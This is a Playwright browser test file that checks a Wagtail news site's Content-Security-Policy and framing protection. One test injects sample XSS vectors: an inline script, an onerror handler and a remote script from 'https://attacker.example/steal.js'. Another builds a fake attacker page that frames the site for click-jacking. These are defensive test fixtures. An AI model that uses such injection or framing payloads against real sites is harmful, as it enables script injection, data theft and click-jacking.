"""The Content-Security-Policy in a real browser: the public pages break none of it, the admin
(with its relaxed policy) still works down to its live preview, injected script does not run,
and other sites cannot put the site in a frame. The headers themselves are checked against the
production stack in tests/psgsite/test_security.py."""

import pytest
from playwright.sync_api import expect

from membership.models import JoinPage
from news.models import NewsPage
from tests.browser.conftest import log_in
from tests.factories import MembershipTypeFactory, UserFactory

pytestmark = pytest.mark.browser

# Every frame of the page (the preview's too) records what its policy blocked.
LISTEN = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
    const blocked = event.blockedURI || "inline";
    const where = event.documentURI;
    window.__violations.push(`${event.effectiveDirective} blocked ${blocked} in ${where}`);
});
"""


def watch(page):
    """Starts listening on a page: returns a function giving every violation so far, from the
    browser's console and from each frame's securitypolicyviolation events."""
    console = []
    page.on(
        "console",
        lambda message: (
            console.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    page.context.add_init_script(LISTEN)

    def violations():
        events = []
        for frame in page.frames:
            try:
                events += frame.evaluate("window.__violations || []")
            except Exception:  # noqa: BLE001, S112 - a frame the browser refused to load
                continue
        return console + events

    return violations


def test_public_pages_break_no_rule_of_the_policy(site, page):
    MembershipTypeFactory()  # the join page shows its form
    story = NewsPage.objects.get(slug="minas-conga-referendum-plans-disputed")
    assert "embed" not in [block.block_type for block in story.body]
    violations = watch(page)
    for path in [
        "/",
        story.url,
        JoinPage.objects.get(slug="join").url,
        "/search/?q=mining",
        "/news/",
    ]:
        response = page.goto(site.url + path)
        assert response.status == 200, path
        # The policy is the strict one (its directives come in no fixed order).
        directives = [d.strip() for d in response.headers["content-security-policy"].split(";")]
        assert "script-src 'self'" in directives, path
        page.wait_for_load_state("load")
        assert page.evaluate("document.styleSheets.length") >= 1, path  # the site's CSS loaded
        assert violations() == [], path


def test_script_slipped_into_a_public_page_does_not_run(site, page):
    """What the policy is for, should markup ever get past the templates' escaping."""
    violations = watch(page)
    page.goto(site.url + "/")
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.__ran = true";
            document.body.append(script);
            const image = document.createElement("img");
            image.setAttribute("onerror", "window.__ran = true");
            image.src = "/no-such-image.png";
            document.body.append(image);
            const remote = document.createElement("script");
            remote.src = "https://attacker.example/steal.js";
            document.body.append(remote);
        }"""
    )
    # Each of the three is refused: the inline script at once, the handler when the image
    # fails to load, the remote script before it is fetched.
    page.wait_for_function("() => window.__violations.length >= 3")
    assert page.evaluate("window.__ran") is None
    seen = "\n".join(violations())
    assert "script-src-elem blocked inline" in seen
    assert "script-src-attr blocked inline" in seen
    assert "script-src-elem blocked https://attacker.example/steal.js" in seen


def test_the_admin_works_under_its_policy_down_to_the_live_preview(site, browser):
    UserFactory(username="admin", is_superuser=True)
    story = NewsPage.objects.get(slug="minas-conga-referendum-plans-disputed")
    admin = log_in(browser, site, "admin")
    violations = watch(admin)
    admin.goto(f"{site.url}/admin/pages/{story.pk}/edit/")
    expect(admin.locator("#id_title")).to_have_value(story.title)
    admin.locator("[data-side-panel-toggle='preview']").click()
    preview = admin.frame_locator("#w-preview-iframe")
    expect(preview.locator("h1")).to_have_text(story.title)
    expect(preview.locator("main")).to_contain_text("Authorities have rejected")
    # The preview answers as the admin does, not with the public pages' policy.
    frame = next(f for f in admin.frames if "/preview/" in f.url)
    assert frame.evaluate("document.styleSheets.length") >= 1
    # Staff avatars come from Gravatar at a scheme-relative address: https: in production,
    # which the admin's policy allows, but http: on this test server.
    assert [v for v in violations() if "gravatar.com" not in v] == []

    # On the public page, under the strict policy, the editor's Wagtail user bar still opens.
    admin.goto(site.url + story.url)
    admin.locator("#wagtail-userbar-trigger").click()
    expect(admin.get_by_role("menuitem", name="Edit this page")).to_be_visible()
    assert [v for v in violations() if "gravatar.com" not in v] == []


def test_another_site_cannot_frame_the_site(site, page):
    """Click-jacking: a page elsewhere puts the site in a frame; the browser refuses it."""
    attacker = "http://attacker.example/"
    page.route(
        attacker,
        lambda route: route.fulfill(
            content_type="text/html",
            body=f'<!DOCTYPE html><title>Win a prize</title><iframe src="{site.url}/"></iframe>',
        ),
    )
    page.goto(attacker)
    framed = [frame for frame in page.frames if frame is not page.main_frame]
    assert len(framed) == 1
    # The browser shows its own error page in the frame, not the site.
    framed[0].wait_for_url("chrome-error://chromewebdata/")
    assert framed[0].url == "chrome-error://chromewebdata/"
